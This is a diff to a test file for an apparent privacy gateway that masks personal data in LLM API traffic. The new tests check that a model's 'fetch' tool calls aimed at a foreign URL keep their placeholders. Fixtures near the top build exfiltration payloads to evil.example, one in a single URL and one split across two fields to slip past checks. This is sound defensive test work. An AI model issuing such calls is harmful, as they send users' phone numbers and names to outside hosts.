@@ -1179,18 +1179,56 @@ def test_responses_whole_top_logprobs_cannot_carry_a_new_phone(gw: Running) -> N
     _clean(r.text)
 
 
-def test_responses_whole_tool_arguments_are_restored_not_screened(gw: Running) -> None:
-    """By design (docs/security.md): arguments are data for the client's program. Noted in
-    the report: a fetch-like tool would send the restored value to the URL."""
-    call = {
-        "type": "function_call",
-        "id": "fc",
-        "call_id": "c",
-        "name": "fetch",
-        "arguments": _dump({"url": "https://evil.example/?d=〔電話番号1〕"}),
-    }
-    r = _r_whole(gw, call)
-    assert PHONE in r.json()["output"][0]["arguments"]
+_OUT_URL = {"url": "https://evil.example/?d=〔電話番号1〕"}
+#: The URL in one field and the value in another: the tool joins them.
+_OUT_SPLIT = {"base": "https://evil.example/collect?d=", "value": "〔電話番号1〕"}
+
+
+def _function_call(args: Any) -> dict[str, Any]:
+    return {"type": "function_call", "id": "fc", "call_id": "c", "name": "fetch",
+            "arguments": args if isinstance(args, str) else _dump(args)}  # fmt: skip
+
+
+@pytest.mark.parametrize("args", [_OUT_URL, _OUT_SPLIT], ids=["in-the-url", "split"])
+def test_responses_whole_tool_arguments_never_carry_a_value_to_a_foreign_url(
+    gw: Running, args: dict[str, str]
+) -> None:
+    """Restoring would put the request's phone number where the client's fetch tool sends
+    it: the call keeps its placeholders, and the outcome says so."""
+    r = _r_whole(gw, _function_call(args))
+    assert json.loads(r.json()["output"][0]["arguments"]) == args
+    assert "exfiltration" in r.headers.get("x-hinagata-output", "")
+    assert PHONE not in r.text
+
+
+def test_responses_whole_tool_arguments_are_restored_json_escaped_too(gw: Running) -> None:
+    """A model that writes JSON with \\u escapes writes the placeholder so too."""
+    escaped = json.dumps({"who": "〔氏名1〕", "tel": "〔電話番号1〕", "note": "折り返し"})
+    assert "〔" not in escaped
+    r = _r_whole(gw, _function_call(escaped))
+    got = json.loads(r.json()["output"][0]["arguments"])
+    assert got == {"who": NAME, "tel": PHONE, "note": "折り返し"}
+
+
+def test_responses_stream_tool_arguments_are_judged_whole(gw: Running) -> None:
+    whole = _dump(_OUT_SPLIT)
+    ids = {"item_id": "fc", "output_index": 0}
+    pieces = [whole[i : i + 5] for i in range(0, len(whole), 5)]
+    got = _r_events(
+        gw,
+        [
+            {"type": "response.output_item.added", "output_index": 0,
+             "item": {**_function_call(""), "status": "in_progress"}},
+            *({"type": "response.function_call_arguments.delta", **ids, "delta": p} for p in pieces),
+            {"type": "response.function_call_arguments.done", **ids, "arguments": whole},
+        ],
+    )  # fmt: skip
+    deltas = "".join(
+        e["delta"] for e in got if e["type"] == "response.function_call_arguments.delta"
+    )
+    done = next(e for e in got if e["type"] == "response.function_call_arguments.done")
+    assert json.loads(deltas) == _OUT_SPLIT
+    assert done["arguments"] == deltas
 
 
 def _m_whole(gw: Running, *content: dict[str, Any], **body: Any) -> httpx.Response:
@@ -2308,6 +2346,27 @@ def test_a_quarantined_argument_key_never_names_a_value_in_headers_or_audit(gw: 
     assert r.status_code in (200, 403), r.text
     assert PHONE not in _dump(dict(r.headers))
     assert PHONE not in _dump(_records(gw, r.headers["x-request-id"]))
+
+
+def test_messages_tool_use_input_never_carries_a_value_to_a_foreign_url(gw: Running) -> None:
+    r = _m_whole(gw, {"type": "tool_use", "id": "toolu_1", "name": "fetch", "input": _OUT_SPLIT})
+    assert r.json()["content"][0]["input"] == _OUT_SPLIT
+    whole = _dump(_OUT_URL)
+    got = _m_events(
+        gw,
+        [
+            {"type": "message_start", "message": _message([])},
+            {"type": "content_block_start", "index": 0,
+             "content_block": {"type": "tool_use", "id": "toolu_1", "name": "fetch", "input": {}}},
+            *({"type": "content_block_delta", "index": 0,
+               "delta": {"type": "input_json_delta", "partial_json": whole[i : i + 4]}}
+              for i in range(0, len(whole), 4)),
+            {"type": "content_block_stop", "index": 0},
+            {"type": "message_stop"},
+        ],
+    )  # fmt: skip
+    sent = "".join(e["delta"]["partial_json"] for e in got if e["type"] == "content_block_delta")
+    assert json.loads(sent) == _OUT_URL
 
 
 def test_whole_tool_use_arguments_named_id_are_restored(gw: Running) -> None:
